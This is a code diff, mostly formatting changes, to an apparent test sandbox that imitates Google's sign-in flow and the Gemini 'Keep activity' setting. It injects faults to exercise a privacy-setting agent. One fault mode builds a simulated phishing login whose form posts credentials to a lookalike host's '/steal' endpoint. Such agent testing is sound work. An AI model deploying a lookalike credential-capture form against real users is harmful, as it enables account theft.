@@ -18,8 +18,8 @@ import html
 import json
 from urllib.parse import quote, urlsplit
 
-from optout.sandbox.replica import Replica, Request, Response, late_page, page, redirect
 from optout.sandbox.kit.assistant import FOREIGN_LANG, session_cookie_header
+from optout.sandbox.replica import Replica, Request, Response, late_page, page, redirect
 
 ACTIVITY_PATH = "/product/gemini"
 SAVE_PATH = "/product/gemini/_/keep-activity"
@@ -51,7 +51,10 @@ class Gemini(Replica):
         if req.path == "/":
             if user is None:
                 return self.to_sign_in(req)
-            return page("<h1>My Google Activity</h1><a href='/product/gemini'>Gemini Apps</a>", title="My Google Activity")
+            return page(
+                "<h1>My Google Activity</h1><a href='/product/gemini'>Gemini Apps</a>",
+                title="My Google Activity",
+            )
         if req.path == ACTIVITY_PATH:
             if user is None:
                 return self.to_sign_in(req)
@@ -64,21 +67,30 @@ class Gemini(Replica):
         return Response(status=404, body="<h1>404. That’s an error.</h1>")
 
     def to_sign_in(self, req: Request) -> Response:
-        return redirect("https://accounts.google.com/ServiceLogin?continue=" + quote(req.url, safe=""))
+        return redirect(
+            "https://accounts.google.com/ServiceLogin?continue=" + quote(req.url, safe="")
+        )
 
     # --- sign-in at accounts.google.com ------------------------------------------------------------
 
     def accounts(self, req: Request) -> Response:
-        target = req.query.get("continue") or req.form.get("continue") or "https://myactivity.google.com/"
+        target = (
+            req.query.get("continue")
+            or req.form.get("continue")
+            or "https://myactivity.google.com/"
+        )
         if req.path in ("/", "/ServiceLogin", "/v3/signin/identifier") and req.method == "GET":
             if self.misbehaves("lookalike_login") and req.path == "/":
                 return redirect(f"https://{LOOKALIKE_HOST}/v3/signin/identifier")
             return self.identifier_page(target)
         if req.path == "/v3/signin/identifier" and req.method == "POST":
             if self.misbehaves("captcha_early"):
-                return page("<h1>Verify it’s you</h1><p>Type the text you hear or see</p>"
-                            '<img alt="CAPTCHA image of text"><input name="ca" aria-label="Type the text">'
-                            "<button>Next</button>", title="Sign in - Google Accounts")
+                return page(
+                    "<h1>Verify it’s you</h1><p>Type the text you hear or see</p>"
+                    '<img alt="CAPTCHA image of text"><input name="ca" aria-label="Type the text">'
+                    "<button>Next</button>",
+                    title="Sign in - Google Accounts",
+                )
             return self.password_page(req.form.get("identifier", ""), target)
         if req.path == "/v3/signin/challenge/pwd" and req.method == "POST":
             return self.verify(req, target)
@@ -86,20 +98,26 @@ class Gemini(Replica):
 
     def identifier_page(self, target: str, *, lookalike: bool = False) -> Response:
         action = f"https://{LOOKALIKE_HOST}/steal" if lookalike else "/v3/signin/identifier"
-        return page(f"""<h1>Sign in</h1><p>Use your Google Account</p>
+        return page(
+            f"""<h1>Sign in</h1><p>Use your Google Account</p>
 <form method="post" action="{action}"><input type="hidden" name="continue" value="{html.escape(target)}">
 <label for="identifierId">Email or phone</label>
 <input type="email" id="identifierId" name="identifier" autocomplete="username">
-<div id="identifierNext" style="display:inline-block"><button type="submit">Next</button></div></form>""", title="Sign in - Google Accounts")
+<div id="identifierNext" style="display:inline-block"><button type="submit">Next</button></div></form>""",
+            title="Sign in - Google Accounts",
+        )
 
     def password_page(self, identifier: str, target: str, error: str = "") -> Response:
-        return page(f"""<h1>Welcome</h1><p>{html.escape(identifier)}</p>
+        return page(
+            f"""<h1>Welcome</h1><p>{html.escape(identifier)}</p>
 <form method="post" action="/v3/signin/challenge/pwd">
 <input type="hidden" name="identifier" value="{html.escape(identifier)}">
 <input type="hidden" name="continue" value="{html.escape(target)}">
 <label for="pwd">Enter your password</label><input type="password" id="pwd" name="Passwd" autocomplete="current-password">
 <div role="alert">{html.escape(error)}</div>
-<div id="passwordNext" style="display:inline-block"><button type="submit">Next</button></div></form>""", title="Sign in - Google Accounts")
+<div id="passwordNext" style="display:inline-block"><button type="submit">Next</button></div></form>""",
+            title="Sign in - Google Accounts",
+        )
 
     def verify(self, req: Request, target: str) -> Response:
         identifier, password = req.form.get("identifier", ""), req.form.get("Passwd", "")
@@ -107,12 +125,17 @@ class Gemini(Replica):
         if not ok:
             return self.password_page(identifier, target, error="Wrong password. Try again.")
         if self.misbehaves("checkpoint"):
-            return page("<h1>Couldn’t sign you in</h1><p>This browser or app may not be secure.</p>"
-                        "<button>Try again</button>", title="Sign in - Google Accounts")
+            return page(
+                "<h1>Couldn’t sign you in</h1><p>This browser or app may not be secure.</p>"
+                "<button>Try again</button>",
+                title="Sign in - Google Accounts",
+            )
         if self.misbehaves("two_factor"):
-            return page("<h1>2-Step Verification</h1><p>To help keep your account safe, Google wants to make "
-                        "sure it’s really you trying to sign in.</p><p>Check your phone</p>",
-                        title="Sign in - Google Accounts")
+            return page(
+                "<h1>2-Step Verification</h1><p>To help keep your account safe, Google wants to make "
+                "sure it’s really you trying to sign in.</p><p>Check your phone</p>",
+                title="Sign in - Google Accounts",
+            )
         if not urlsplit(target).hostname or not urlsplit(target).hostname.endswith("google.com"):
             target = "https://myactivity.google.com/"
         token = self.new_session(identifier)
@@ -125,18 +148,38 @@ class Gemini(Replica):
         lang = FOREIGN_LANG if self.misbehaves("language") else "en"
         name = f"Turn {'off' if on else 'on'} your Keep Activity setting"
         heading, chip = "Keep activity", ("On" if on else "Off")
-        items = [("plain", "Turn off"), ("delete", "Turn off and delete activity")] if on else [("on", "Turn on")]
+        items = (
+            [("plain", "Turn off"), ("delete", "Turn off and delete activity")]
+            if on
+            else [("on", "Turn on")]
+        )
         if self.state["menu_order"] == "delete_first":
             items.reverse()
         if self.misbehaves("label_gone"):
             name = "Change your Gemini history setting"
         if self.misbehaves("language"):
             heading, chip = "Conserver l'activité", ("Activé" if on else "Désactivé")
-            name = "Désactiver le paramètre Conserver l'activité" if on else "Activer le paramètre Conserver l'activité"
-            items = [(k, {"Turn off": "Désactiver", "Turn off and delete activity": "Désactiver et supprimer l'activité",
-                          "Turn on": "Activer"}[t]) for k, t in items]
+            name = (
+                "Désactiver le paramètre Conserver l'activité"
+                if on
+                else "Activer le paramètre Conserver l'activité"
+            )
+            items = [
+                (
+                    k,
+                    {
+                        "Turn off": "Désactiver",
+                        "Turn off and delete activity": "Désactiver et supprimer l'activité",
+                        "Turn on": "Activer",
+                    }[t],
+                )
+                for k, t in items
+            ]
         managed = self.misbehaves("admin_managed")
-        menu = "".join(f'<div role="menuitem" tabindex="-1" data-action="{k}">{html.escape(t)}</div>' for k, t in items)
+        menu = "".join(
+            f'<div role="menuitem" tabindex="-1" data-action="{k}">{html.escape(t)}</div>'
+            for k, t in items
+        )
         card = f"""
 <section aria-labelledby="keep-heading" style="border:1px solid #ddd;border-radius:8px;padding:16px">
   <h2 id="keep-heading">{html.escape(heading)}</h2>
@@ -153,7 +196,9 @@ class Gemini(Replica):
   <div id="toast" role="status"></div>
 </section>"""
         if self.misbehaves("absent"):
-            card = "<section><p>Gemini Apps Activity isn’t available for this account.</p></section>"
+            card = (
+                "<section><p>Gemini Apps Activity isn’t available for this account.</p></section>"
+            )
         activity = "".join(f"<li>{html.escape(a)}</li>" for a in self.state["activity"])
         body = f"<h1>Gemini Apps Activity</h1>{card}<section><h2>Your activity</h2><ul id='activity'>{activity}</ul></section>"
         script = f"""
@@ -187,6 +232,15 @@ if (chip) {{
         on = action == "on"
         if action not in ("plain", "on"):
             return Response(status=400, body="{}", content_type="application/json")
-        if not self.saved(self.settings_of(user), "keep-activity", on, setting="keep-activity", on=on, delete=False):
-            return Response(status=500, body='{"error":"internal"}', content_type="application/json")
+        if not self.saved(
+            self.settings_of(user),
+            "keep-activity",
+            on,
+            setting="keep-activity",
+            on=on,
+            delete=False,
+        ):
+            return Response(
+                status=500, body='{"error":"internal"}', content_type="application/json"
+            )
         return Response(body='{"ok":true}', content_type="application/json")
